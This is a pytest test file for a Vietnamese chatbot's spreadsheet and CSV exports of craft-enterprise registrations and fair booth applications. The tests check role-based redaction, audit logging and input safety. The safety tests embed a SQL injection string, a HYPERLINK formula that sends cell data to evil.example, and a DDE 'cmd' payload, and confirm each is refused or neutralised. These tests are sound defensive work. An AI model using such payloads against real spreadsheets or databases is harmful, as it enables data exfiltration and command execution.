"""Exports in the chat: the filtered rows and nothing else, Vietnamese intact, real dates,
personal data only for moderators and above, a CSV Excel reads, and a line in the audit log."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from bot.app import App
from bot.core.types import Document
from storage.enterprises import EnterpriseStatus
from storage.roles import Role
from tests.fair_data import TODAY, make_fair, tap
from tests.handlers.registration_walk import ward_code
from tests.handlers.staff.staff_data import add_enterprise, audit_entries, member

THUONG_TIN = ward_code("Thường Tín")


pytestmark = pytest.mark.today


@pytest.fixture
async def network(app: App) -> None:
    """Four registrations across statuses, crafts and wards."""
    await add_enterprise(
        app, "p1", "Cơ sở gốm Minh Hải", tax_code="0100109106", status=EnterpriseStatus.APPROVED
    )
    await add_enterprise(
        app,
        "p2",
        "Hợp tác xã mây tre Phú Vinh",
        ward_code=ward_code("Phú Nghĩa"),
        sectors=("bamboo_rattan",),
        phone="+84987654321",
    )
    await add_enterprise(
        app,
        "p3",
        "Xưởng sơn mài Hạ Thái",
        ward_code=THUONG_TIN,
        sectors=("lacquer", "ceramics"),
        phone="+84903111222",
        status=EnterpriseStatus.APPROVED,
    )
    await add_enterprise(
        app, "p4", "Lò gốm Đức Ánh", phone="+84903333444", status=EnterpriseStatus.REJECTED
    )


def _sheet(document: Document | None) -> Worksheet:
    assert document is not None and document.filename.endswith(".xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(document.content)).active
    assert isinstance(ws, Worksheet)
    return ws


def _rows(ws: Worksheet) -> list[dict[str, object]]:
    header = [c.value for c in ws[1]]
    return [
        dict(zip(header, row, strict=True)) for row in ws.iter_rows(min_row=2, values_only=True)
    ]


@pytest.mark.usefixtures("network")
async def test_a_moderator_exports_the_approved_ceramics_makers(app: App) -> None:
    moderator = await member(app, Role.MODERATOR)
    await tap(moderator, "export:e:approved:ceramics:-:-:xlsx")
    assert "để làm gì" in moderator.text  # the purpose is asked first
    await moderator.press("Liên hệ với các cơ sở")
    ws = _sheet(moderator.last.document)
    rows = _rows(ws)
    assert [r["Tên cơ sở"] for r in rows] == ["Cơ sở gốm Minh Hải", "Xưởng sơn mài Hạ Thái"]
    first = rows[0]
    assert first["Số điện thoại"] == "0912 345 678"
    assert first["Mã số thuế"] == "0100109106"
    assert first["Ngành nghề"] == "Gốm sứ"
    assert first["Xã/phường"] == "Xã Bát Tràng"
    assert first["Trạng thái"] == "đã duyệt"
    assert rows[1]["Ngành nghề"] == "Sơn mài, Gốm sứ"
    registered = first["Ngày đăng ký"]
    assert isinstance(registered, datetime)
    assert registered.date() == TODAY.date() and registered.hour == 10  # local time
    column = next(c for c in ws[1] if c.value == "Ngày đăng ký").column_letter
    assert ws[f"{column}2"].number_format == "DD/MM/YYYY HH:MM"
    assert all(cell.font.bold for cell in ws[1])
    assert ws.freeze_panes == "B2"
    assert ws.column_dimensions["B"].width >= len("Xưởng sơn mài Hạ Thái")
    assert "2 dòng" in moderator.last.text
    [entry] = [e for e in await audit_entries(app) if e.action == "export.enterprises"]
    assert entry.after == {
        "what": "enterprises",
        "status": "approved",
        "sector": "ceramics",
        "format": "xlsx",
        "rows": 2,
        "personal": True,
        "purpose": "contact",
    }


@pytest.mark.usefixtures("network")
async def test_a_viewer_gets_no_phones_or_tax_codes(app: App) -> None:
    viewer = await member(app, Role.VIEWER)
    await tap(viewer, "export:e:-:-:-:-:show")
    assert "số điện thoại" in viewer.text.lower()
    await tap(viewer, "export:e:-:-:-:-:xlsx.report")
    ws = _sheet(viewer.last.document)
    headers = [c.value for c in ws[1]]
    assert "Số điện thoại" not in headers and "Mã số thuế" not in headers
    assert len(_rows(ws)) == 4
    assert not any("0912" in str(v) for row in ws.iter_rows(values_only=True) for v in row)


@pytest.mark.usefixtures("network")
async def test_the_ward_filter_is_typed_and_the_csv_has_a_bom(app: App) -> None:
    moderator = await member(app, Role.MODERATOR)
    await moderator.say("/xuat")
    await moderator.press("Cơ sở đăng ký")
    await moderator.press("Xã/phường")
    await moderator.say("thuong tin")
    await moderator.press("Xã Thường Tín")
    assert "Xã Thường Tín" in moderator.text
    await moderator.press("CSV")
    await moderator.press("Tổ chức hội chợ")
    document = moderator.last.document
    assert document is not None and document.filename.endswith(".csv")
    assert document.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(document.content.decode("utf-8-sig"))))
    assert [r["Tên cơ sở"] for r in rows] == ["Xưởng sơn mài Hạ Thái"]
    assert rows[0]["Ngày đăng ký"] == "2026-11-23 10:00"


@pytest.mark.usefixtures("network")
async def test_booth_applications_of_one_fair(app: App) -> None:
    svc = app.router.services
    fair = await make_fair(app, booths=5)
    other = await make_fair(app, "other-fair", title_vi="Hội chợ khác")
    async with svc.db.transaction():
        for e in await svc.enterprises.find(statuses=[EnterpriseStatus.APPROVED]):
            await svc.booths.apply(fair.id, e.id, e.account_id, 2, "Bình gốm men rạn", "Cần điện")
            await svc.booths.apply(other.id, e.id, e.account_id, 1, "Khác")
    moderator = await member(app, Role.MODERATOR)
    await tap(moderator, f"export:b:-:-:-:{fair.id}:xlsx.fair")
    document = moderator.last.document
    assert document is not None and "test-fair" in document.filename
    rows = _rows(_sheet(document))
    assert [(r["Tên cơ sở"], r["Số gian hàng"]) for r in rows] == [
        ("Cơ sở gốm Minh Hải", 2),
        ("Xưởng sơn mài Hạ Thái", 2),
    ]
    assert {r["Hội chợ"] for r in rows} == {"Hội chợ thử nghiệm"}
    assert rows[0]["Sản phẩm"] == "Bình gốm men rạn"
    assert isinstance(rows[0]["Hội chợ khai mạc"], datetime)


async def test_a_forged_filter_is_not_trusted(app: App) -> None:
    moderator = await member(app, Role.MODERATOR)
    forged = "export:e:'; DROP TABLE enterprises;--:-:-:-:xlsx.fair"
    await tap(moderator, forged)
    assert moderator.last.document is None
    assert "không còn hiệu lực" in moderator.text  # refused where every payload is read
    [refused] = await audit_entries(app)
    assert (refused.outcome, refused.target) == ("refused", forged)
    await tap(moderator, "export:b:pending:-:-:-:xlsx.fair")  # well formed, not a booth status
    assert moderator.last.document is None
    assert "xuất" in moderator.text.lower()


async def test_personal_id_numbers_are_masked_even_for_moderators(app: App) -> None:
    await add_enterprise(app, "p1", "Hộ gốm Minh Hải", tax_code="001085012345")
    moderator = await member(app, Role.MODERATOR)
    await tap(moderator, "export:e:-:-:-:-:xlsx.review")
    [row] = _rows(_sheet(moderator.last.document))
    assert row["Mã số thuế"] == "0010******45"
    assert row["Số điện thoại"] == "0912 345 678"


async def test_a_purpose_not_offered_asks_again(app: App) -> None:
    moderator = await member(app, Role.MODERATOR)
    await tap(moderator, "export:e:-:-:-:-:csv.whatever")
    assert moderator.last.document is None
    assert [b.payload for b in moderator.options][:2] == [
        "export:e:-:-:-:-:csv.fair",
        "export:e:-:-:-:-:csv.review",
    ]


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


async def test_what_registrants_typed_is_never_a_formula_in_either_format(app: App) -> None:
    svc = app.router.services
    e = await add_enterprise(
        app, "p1", HYPERLINK, contact="@SUM(1+1)", status=EnterpriseStatus.APPROVED
    )
    fair = await make_fair(app, booths=5)
    async with svc.db.transaction():
        await svc.booths.apply(fair.id, e.id, e.account_id, 2, "-2+3+cmd|' /C calc'!A0", "+1 bàn")
    moderator = await member(app, Role.MODERATOR)
    for what in ("e", "b"):
        await tap(moderator, f"export:{what}:-:-:-:-:xlsx.report")
        ws = _sheet(moderator.last.document)
        cells = [cell for row in ws.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert not [c.value for c in cells if str(c.value).startswith(FORMULA_START)]
        row = _rows(ws)[0]
        assert row["Tên cơ sở"] == "'" + HYPERLINK
        assert row["Người liên hệ"] == "'@SUM(1+1)"
        assert row["Số điện thoại"] == "0912 345 678"
        if what == "b":
            assert row["Sản phẩm"] == "'-2+3+cmd|' /C calc'!A0"
            assert row["Nhu cầu đặc biệt"] == "'+1 bàn"
            assert row["Số gian hàng"] == 2  # a number still
        await tap(moderator, f"export:{what}:-:-:-:-:csv.report")
        document = moderator.last.document
        assert document is not None
        text = document.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert not [v for r in rows for v in r if v.startswith(FORMULA_START)]
        assert "'" + HYPERLINK in rows[1]
